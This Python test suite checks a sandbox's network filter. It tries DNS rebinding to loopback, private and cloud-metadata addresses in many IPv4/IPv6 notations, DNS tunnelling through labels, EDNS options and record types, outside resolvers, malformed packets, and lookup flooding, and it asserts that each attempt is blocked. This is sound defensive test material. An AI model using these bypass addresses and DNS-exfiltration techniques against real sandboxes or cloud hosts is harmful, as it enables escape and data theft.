# SPDX-License-Identifier: Apache-2.0
"""Questions for names, and what names lead to: a box whose host asks a name server of the test's own.

The test has a network namespace of its own, in which 11.0.0.1 stands for the internet. What a name leads to is decided by
a name server there, which also counts what it is asked.
"""

import ctypes
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, "..", "system"))
import attack  # noqa: E402
import harness  # noqa: E402
import netbox  # noqa: E402
import service  # noqa: E402

PUBLIC = "11.0.0.1"
OTHER = "11.0.0.3"
# Each leads somewhere that is not public.
BAD = {
    "loopback": ["127.0.0.1"], "loopback2": ["127.1.2.3"], "zero": ["0.0.0.0"], "private": ["10.0.0.1"],
    "private2": ["172.16.5.4"], "private3": ["192.168.1.1"], "shared": ["100.64.0.1"], "metadata": ["169.254.169.254"],
    "multicast": ["224.0.0.1"], "broadcast": ["255.255.255.255"], "fake": ["198.18.1.0"], "v6loopback": ["::1"],
    "v6zero": ["::"], "mapped": ["::ffff:127.0.0.1"], "mapped2": ["::ffff:169.254.169.254"], "compatible": ["::127.0.0.1"],
    "nat64": ["64:ff9b::7f00:1"], "nat64metadata": ["64:ff9b::a9fe:a9fe"], "sixtofour": ["2002:7f00:1::1"],
    "teredo": ["2001:0:7f00:1::1"], "unique": ["fd00:ec2::254"], "link": ["fe80::1"], "site": ["fec0::1"],
    "many": ["127.0.0.1", "10.0.0.1", "::1"],
}


def setUpModule():
    """A network and a resolver's configuration of this process's own."""
    if not harness.IS_ROOT:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x40000000 | 0x20000) != 0:  # CLONE_NEWNET, CLONE_NEWNS
        raise OSError(ctypes.get_errno(), "unshare")
    with tempfile.NamedTemporaryFile("w", dir=harness.TMP, delete=False) as f:
        f.write("nameserver 127.0.0.1\n")
    os.chmod(f.name, 0o644)
    for argv in (["mount", "--make-rprivate", "/"], ["mount", "--bind", f.name, "/etc/resolv.conf"],
                 ["ip", "link", "set", "lo", "up"], ["ip", "address", "add", PUBLIC + "/32", "dev", "lo"],
                 ["ip", "address", "add", OTHER + "/32", "dev", "lo"],
                 ["ip", "address", "add", "10.0.0.1/32", "dev", "lo"],
                 ["ip", "address", "add", "169.254.169.254/32", "dev", "lo"]):
        subprocess.run(argv, check=True)


class Names(netbox.Case):
    @classmethod
    def setUpClass(cls):
        cls.resolver = netbox.Resolver()
        cls.addClassCleanup(cls.resolver.stop)
        cls.target = netbox.Server(address="")
        cls.addClassCleanup(cls.target.stop)
        cls.alone = netbox.Server(address=PUBLIC)
        cls.addClassCleanup(cls.alone.stop)
        super().setUpClass()

    @classmethod
    def known(cls):
        port = cls.target.port
        cls.resolver.names = {name + ".bad.test": where for name, where in BAD.items()}
        turns = iter([[PUBLIC]] * 2 + [["127.0.0.1"]] * 1000)
        cls.resolver.names |= {
            "good.test": [PUBLIC], "two.test": [OTHER, PUBLIC], "mixed.bad.test": ["127.0.0.1", "10.0.0.1", PUBLIC],
            # In turn: public for the first two questions (A and AAAA), then loopback.
            "turns.bad.test": lambda: next(turns)}
        for rule in (f"good.test:{port}", f"two.test:{cls.alone.port}", f"*.bad.test:{port}", f"*.wild.test:{port}", "localhost.test:80"):
            cls.options += ["--net", rule]
        return {"PORT": port, "ALONE": cls.alone.port, "BAD": sorted(BAD)}


@harness.needs_root("a name server of the test's own needs a network namespace")
class Addresses(Names):
    """What names lead to. One server listens at all addresses: what gets past a check arrives there."""


    @attack.inside("reached")
    def test_T_NET_REBIND_control():
        """Not an attack: a name that leads to a public address is reached, so that the rest means something.

        KNOWN: also if this is an address of the host itself, as here."""
        return say("good.test", PORT)

    @attack.inside("reached")
    def test_T_NET_REBIND_control_next_address():
        """Not an attack either: at the first address nobody listens, so the next one is tried."""
        return say("two.test", ALONE)

    @attack.inside({})
    def test_T_NET_REBIND_points_a_name_inwards():
        """The owner of an allowed name points it at the host, its network, a cloud's metadata, in each notation."""
        said = {name: say(name + ".bad.test", PORT) for name in BAD}
        return {name: s for name, s in said.items() if s != "ECONNRESET"}

    def test_T_NET_REBIND_points_a_name_inwards_and_the_record_says_so(self):
        """Each of them is refused for its address, not for another reason."""
        for name in BAD:
            with self.subTest(name):
                row, = self.told(name=name + ".bad.test", port=self.target.port)
                self.assertEqual(row["verdict"], "refused", row)
                self.assertRegex(row["reason"], "^its address .* is ")
        self.assertEqual(set(self.target.heard), {b"x", b"mixed", b"turn"})

    @attack.inside("reached")
    def test_T_NET_REBIND_mixes_addresses():
        """Several addresses, of which one is public: only that one is dialled."""
        return say("mixed.bad.test", PORT, "mixed")

    @attack.inside(["reached", True])
    def test_T_NET_REBIND_changes_its_mind():
        """Public when asked first, loopback ever after: no later connection arrives."""
        first = say("turns.bad.test", PORT, "turn")
        end = time.monotonic() + 60
        while (s := say("turns.bad.test", PORT, "turn")) != "ECONNRESET" and time.monotonic() < end:
            time.sleep(0.5)
        return [first, s == "ECONNRESET"]


@harness.needs_root("a name server of the test's own needs a network namespace")
class Questions(Names):
    """Questions as a way out."""

    def assertNotAsked(self, part):
        self.assertEqual([n for n in self.resolver.asked if part in n], [])

    @attack.inside([[3, 0]])
    def test_T_NET_DNS_sends_data_in_refused_names():
        """The longest names, thousands of bytes in labels."""
        said = []
        for i in range(200):
            label = ("%04d" % i + "leak" * 20)[:60]
            said += [ask(".".join([label] * 4)[:240] + ".evil.test")]
        return [list(s) for s in sorted(set(map(tuple, said)))]

    @attack.inside([[3, 0]])
    def test_T_NET_DNS_asks_below_a_name():
        """A rule for a name is none for what is below it."""
        return [list(s) for s in {tuple(ask(n)) for n in ("leak.good.test", "leak.leak.good.test", "xgood.test", "test")}]

    @attack.inside([0, 1, 0])
    def test_T_NET_DNS_sends_data_below_a_wildcard():
        """Below *.wild.test programs can make up names; but until they connect, nobody hears of them."""
        said = [ask(f"leak-{i}.wild.test") for i in range(100)]
        return [max(s[0] for s in said), max(s[1] for s in said), min(s[1] for s in said) - 1]

    @attack.inside([])
    def test_T_NET_DNS_asks_for_other_types():
        """TXT, NULL, MX, SRV, PTR, HTTPS, SVCB, ANY, AAAA and more: for allowed names no data, for others no name."""
        bad = []
        for kind in TYPES:
            if kind != "A" and ask("good.test", kind) != [0, 0] or ask("leak.evil.test", kind) != [3, 0]:
                bad.append(kind)
        return bad

    @attack.inside([])
    def test_T_NET_DNS_asks_backwards():
        """PTR of inner and outer addresses."""
        return [n for n in ("1.0.0.127", "1.0.0.11", "254.169.254.169", "0.1.18.198")
                if ask("leak." + n + ".in-addr.arpa", "PTR") != [3, 0] or ask(n + ".in-addr.arpa", "PTR") != [3, 0]]

    @attack.inside([[0, 1], [], 16])
    def test_T_NET_DNS_sends_options():
        """EDNS with a client subnet, a cookie and padding full of data: nothing of it comes back; version 9 is refused."""
        data = b"leak" * 40
        options = b"".join(struct.pack(">2H", code, len(data)) + data for code in (8, 10, 12, 65001))
        def opt(version):
            return b"\0" + struct.pack(">HHBBHH", 41, 4096, 0, version, 0, len(options)) + options
        answer = exchange(question("good.test", n=(1, 0, 0, 1), more=opt(0)))
        newer = exchange(question("good.test", n=(1, 0, 0, 1), more=opt(9)))
        return [[rcode(answer), answer[7]], re.findall(b"leak", answer + newer), newer[-6] << 4 | rcode(newer)]

    @attack.inside([1, 1, 1, 1, 5, 4, 4, "TimeoutError"])
    def test_T_NET_DNS_sends_what_is_no_question():
        """Two questions, a pointer, a name that is cut, data behind it, class CHAOS, an update, a zone transfer by NOTIFY;
        an answer is not answered."""
        def code(data):
            try:
                return rcode(exchange(data, seconds=1 if data[2] & 0x80 else 20))
            except OSError as e:
                return type(e).__name__
        good = wire("good.test")
        return [code(question(good + b"\0\1\0\1" + good, n=(2, 0, 0, 0))), code(question(b"\xc0\x0c")),
                code(question(good)[:-8]), code(question(good) + b"leak"), code(question("version.bind", "TXT", of_class=3)),
                code(question(good, flags=0x2800)), code(question(good, flags=0x2000)), code(question(good, flags=0x8180))]

    @attack.inside([3])
    def test_T_NET_DNS_asks_for_names_of_no_host():
        """Escapes, newlines, dots within a label, other alphabets, and addresses in any notation."""
        odd = [b"\x1b[31mevil\x1b[0m", b"a\nretort: net: b", b"a.b", b"\xff\xfe", b"\0", b"a b", b"a@good", b"a/b"]
        names = [bytes([len(o)]) + o + wire("bad.test") for o in odd]
        names += [wire(n) for n in ("127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "10.0.0.1.", "1.0x7f")]
        return sorted({rcode(exchange(question(n))) for n in names})

    @attack.inside(["ENETUNREACH", "ENETUNREACH", "ECONNREFUSED", "ECONNREFUSED", "ECONNREFUSED"])
    def test_T_NET_DNS_asks_another_server():
        """Public ones, the host's at 127.0.0.1 and 127.0.0.53, and the box's own at a fake address."""
        def where(to):
            try:
                return exchange(question("leak.evil.test"), to)
            except OSError as e:
                return errno.errorcode.get(e.errno, repr(e))
        return [where((a, 53)) for a in ("8.8.8.8", "1.1.1.1", "127.0.0.1", "127.0.0.53", address("good.test"))]

    @attack.inside(["ECONNREFUSED", "ENETUNREACH", "ECONNREFUSED"])
    def test_T_NET_DNS_asks_over_tcp():
        """TCP 53 at the resolver, outside, and DNS over TLS."""
        return [say("198.18.0.1", 53), say("8.8.8.8", 53), say("198.18.0.1", 853)]

    @attack.inside("reached")
    def test_T_NET_DNS_control():
        """Not an attack: who connects has the name asked for."""
        return say("good.test", PORT)

    @attack.inside(["no name", "ENETUNREACH", "ECONNREFUSED"])
    def test_T_NET_DNS_asks_over_https():
        """A resolver on the web that no rule names."""
        return [say("dns.google", 443), say("8.8.8.8", 443), say("good.test", 443)]

    def test_T_NET_DNS_nobody_heard(self):
        """Of all these questions, the host's name server got those of the names that programs connected to."""
        self.assertNotAsked("leak")
        self.assertNotAsked("evil")
        self.assertNotAsked("dns.google")
        self.assertEqual(set(self.resolver.asked), {"good.test"})


@harness.needs_root("a name server of the test's own needs a network namespace")
class Literal(harness.Case):
    def test_T_NET_RULES_names_an_address(self):
        """An address that rules name is reached at their ports only, not at those of others, and not any more when they are taken
        away, although it stays an address of the box."""
        target, other = netbox.Server(address=""), netbox.Server(address="")
        self.addCleanup(target.stop)
        self.addCleanup(other.stop)
        with service.Engine("--standby", "0") as engine:
            for rule in (PUBLIC, "11.0.0.0/24"):
                target.heard.clear()
                s = engine.session(net=[f"{rule}:{target.port}", "11.0.0.7:80"])
                row, = netbox.rows(s.run(netbox.PRELUDE + f"say('{PUBLIC}', 80)"), port=80)
                self.assertEqual((row["verdict"], row["reason"]), ("refused", "no rule names it"))
                said = [s.value(netbox.PRELUDE + f"[say(a, {port}) for a in ('{PUBLIC}', '11.0.1.1')]") for port in (target.port, other.port)]
                self.assertEqual(said, ["['reached', 'ENETUNREACH']", "['ECONNREFUSED', 'ENETUNREACH']"])
                s.value(f"c = socket.create_connection(('{PUBLIC}', {target.port}), 20)")
                engine.call("session.net", session=s.id, net=[])
                s.value("try: c.sendall(b'after')\nexcept OSError: pass")
                self.assertRegex(s.value(f"[say('{PUBLIC}', port) for port in (80, {target.port}, {other.port})]"),
                                 r"^\['ECONNRESET', 'ECONN(RESET|REFUSED)', 'ECONNREFUSED'\]$")
                self.assertEqual((target.heard, other.n), ([b"x"], 0))


@harness.needs_root("a name server of the test's own needs a network namespace")
class Slow(harness.Case):
    def test_T_NET_FLOOD_with_slow_names(self):
        """Hundreds of names whose server does not answer, in three boxes: a name of another box is looked up meanwhile.

        KNOWN: four boxes hold all 32 places for lookups, for the 10 s after which libc gives up."""
        resolver, target = netbox.Resolver(), netbox.Server(address="")
        self.addCleanup(resolver.stop)
        self.addCleanup(target.stop)
        resolver.names = {"good.test": [PUBLIC]}
        with service.Engine("--standby", "0") as engine:
            for i in range(3):
                s = engine.session(net=["*.silent.test:80"])
                s.value(netbox.PRELUDE + "cs = [socket.create_connection((address(f'n{i}.silent.test'), 80)) for i in range(100)]")
            s = engine.session(net=[f"good.test:{target.port}"])
            self.assertEqual(s.value(netbox.PRELUDE + f"say('good.test', {target.port})"), "'reached'")


if __name__ == "__main__":
    harness.main()
